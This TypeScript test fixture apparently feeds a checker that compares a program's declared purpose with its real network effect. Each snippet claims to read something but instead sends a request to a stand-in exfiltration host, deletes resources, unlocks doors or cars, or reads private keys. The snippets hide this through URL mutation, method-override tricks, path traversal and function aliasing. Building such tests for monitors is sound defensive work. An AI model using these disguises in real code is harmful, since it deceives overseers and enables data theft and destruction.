import { program } from '../honest/case.ts'
import { type DeceptiveSeed, deno, node, quickjs } from './case.ts'

/** Addresses, `Request` objects, senders and Node's own clients. */
export const jsRequests: DeceptiveSeed[] = [
  deno(
    'url-mutation',
    'Reads charges',
    'api.stripe.com',
    'POST /v1/payouts',
    program`
const url = new URL('https://api.stripe.com/v1/charges')
url.pathname = url.pathname.replace('charges', 'payouts')
await fetch(url, { method: 'POST', headers, body: 'amount=9000&currency=eur' })
`,
  ),
  deno(
    'url-mutation',
    'Asks the weather',
    'api.weather.example.com exfil.example.net',
    'GET exfil.example.net/v1/now; !unused_host',
    program`
const url = new URL('https://api.weather.example.com/v1/now')
url.hostname = 'exfil.example.net'
await fetch(url, { headers })
`,
  ),
  deno(
    'url-mutation',
    'Reads a profile',
    'api.github.com',
    'GET /user/emails',
    program`
const url = new URL('/user', 'https://api.github.com')
Object.assign(url, { pathname: '/user/emails' })
await fetch(url, { headers })
`,
  ),
  node(
    'url-mutation',
    'Reads a status',
    'status.acme.example intake.example.net',
    'GET intake.example.net/v1',
    program`
const base = 'https://status.acme.example'
await fetch(new URL('//intake.example.net/v1', base), { headers })
`,
  ),
  deno(
    'url-mutation',
    'Reads the docs',
    'docs.acme.example drop.example.net',
    'GET drop.example.net/docs',
    program`
const url = new URL('docs', 'https://docs.acme.example/')
url.href = url.href.replace('docs.acme', 'drop').replace('.example/', '.example.net/')
await fetch(url, { headers })
`,
  ),
  deno(
    'url-mutation',
    'Reads a price',
    'api.prices.example.com collect.example.net',
    'GET collect.example.net/p',
    program`
const page = 'https://collect.example.net/p'
await fetch(new URL(page, 'https://api.prices.example.com/v1/'), { headers })
`,
  ),
  deno(
    'request-mutation',
    'Reads a draft',
    'api.buttondown.com',
    'DELETE /v1/emails/e',
    program`
const read = new Request('https://api.buttondown.com/v1/emails/e', { headers })
await fetch(new Request(read, { method: 'DELETE' }))
`,
  ),
  deno(
    'request-mutation',
    'Reads a group',
    'api.meetup.example.com',
    'DELETE /groups/g',
    program`
const read = new Request('https://api.meetup.example.com/groups/g', { method: 'GET', headers })
await fetch(read.clone(), { method: 'DELETE' })
`,
  ),
  node(
    'request-mutation',
    'Reads a unit',
    'api.guesty.example.com',
    'DELETE /v1/listings/l',
    program`
class Read extends Request { constructor(url, init) { super(url, { ...init, method: 'DELETE' }) } }
await fetch(new Read('https://api.guesty.example.com/v1/listings/l', { headers }))
`,
  ),
  deno(
    'request-mutation',
    'Reads a room',
    'api.daily.co',
    'DELETE /v1/rooms/main',
    program`
const read = new Request('https://api.daily.co/v1/rooms/list', { method: 'DELETE', headers })
await fetch('https://api.daily.co/v1/rooms/main', read)
`,
  ),
  deno(
    'method-override',
    'Reads a case',
    'acme.my.salesforce.com',
    '!method_override',
    program`
const sent = new Headers(headers)
sent.append(['X', 'HTTP', 'Method', 'Override'].join('-'), 'DELETE')
await fetch('https://acme.my.salesforce.com/services/data/v60.0/sobjects/Case/5', { headers: sent })
`,
  ),
  deno(
    'method-override',
    'Posts a note',
    'redmine.acme.example',
    '!method_override',
    program`
const form = new FormData()
form.set('_method', 'delete')
await fetch('https://redmine.acme.example/notes/5', { method: 'POST', headers, body: form })
`,
  ),
  node(
    'method-override',
    'Reads a task',
    'tasks.acme.example',
    '!method_override',
    program`
const url = new URL('https://tasks.acme.example/v1/tasks/1')
url.searchParams.set('_method', 'DELETE')
await fetch(url, { method: 'POST', headers })
`,
  ),
  deno(
    'method-override',
    'Reads an event',
    'www.googleapis.com',
    '!method_override',
    program`
const read = new Request('https://www.googleapis.com/calendar/v3/calendars/primary/events/e', { method: 'POST', headers })
read.headers.set('x-http-method-override', 'DELETE')
await fetch(read)
`,
  ),
  deno(
    'dot-segments',
    'Reads charges',
    'api.stripe.com',
    'POST /v1/transfers; refused',
    program`
await fetch('https://api.stripe.com/v1/charges/../transfers', { method: 'POST', headers })
`,
  ),
  deno(
    'dot-segments',
    'Reads a repository',
    'api.github.com',
    'GET /user/emails; !odd_address; refused',
    program`
const owner = '%2e%2e/user'
await fetch(´https://api.github.com/repos/@{owner}/emails´, { headers })
`,
  ),
  node(
    'dot-segments',
    'Reads a list',
    'api.list.example.com',
    'DELETE /admin/all; refused',
    program`
await fetch(new URL('list\\..\\admin/all', 'https://api.list.example.com/'), { method: 'DELETE', headers })
`,
  ),
  deno(
    'dot-segments',
    'Reads one file',
    'files.acme.example',
    'GET /private/keys; refused',
    program`
const name = ['..', 'private', 'keys'].join('/')
await fetch(new URL(name, 'https://files.acme.example/public/'), { headers })
`,
  ),
  deno(
    'function-table',
    'Lists tokens',
    'api.npm.example.com',
    'DELETE /tokens/1',
    program`
const actions = { list: (id) => drop(id), drop: (id) => list(id) }
const list = (id) => fetch('https://api.npm.example.com/tokens', { headers })
const drop = (id) => fetch('https://api.npm.example.com/tokens/' + id, { method: 'DELETE', headers })
await actions.list(1)
`,
  ),
  deno(
    'function-table',
    'Reads a lock',
    'api.seam.example.com',
    'POST /locks/unlock_door',
    program`
const pipe = (...steps) => (value) => steps.reduce((sum, step) => step(sum), value)
const get = (init) => ({ ...init, method: 'GET' })
const post = (init) => ({ ...init, method: 'POST' })
await fetch('https://api.seam.example.com/locks/unlock_door', pipe(get, post)({ headers }))
`,
  ),
  node(
    'function-table',
    'Reads a garage',
    'api.garage.example.com',
    'PUT /doors/1/open',
    program`
const curry = (method) => (path) => (extra = {}) => fetch('https://api.garage.example.com' + path, { method, headers, ...extra })
const get = curry('GET')
await get('/doors/1/open')({ method: 'PUT' })
`,
  ),
  deno(
    'function-table',
    'Reads a heater',
    'api.heater.example.com',
    'POST /off',
    program`
const memo = (run, cache = {}) => (key) => (cache[key] ??= run(key))
const verb = memo((key) => ({ read: 'GET' })[key] ?? 'POST')
await fetch('https://api.heater.example.com/off', { method: verb('Read'), headers })
`,
  ),
  quickjs(
    'function-table',
    'Reads a car',
    'api.cars.example.com',
    'POST /v1/unlock',
    program`
const commands = [() => fetch('https://api.cars.example.com/v1/state', { headers })]
commands.unshift(() => fetch('https://api.cars.example.com/v1/unlock', { method: 'POST', headers }))
await commands[0]()
`,
  ),
  deno(
    'sender-alias',
    'Reads a plan',
    'api.plan.example.com',
    'DELETE /plans/1',
    program`
const { fetch: get } = globalThis
await get('https://api.plan.example.com/plans/1', { method: 'DELETE', headers })
`,
  ),
  deno(
    'sender-alias',
    'Reads a plan',
    'api.plan.example.com',
    'DELETE /plans/2',
    program`
await Reflect.apply(fetch, undefined, ['https://api.plan.example.com/plans/2', { method: 'DELETE', headers }])
`,
  ),
]
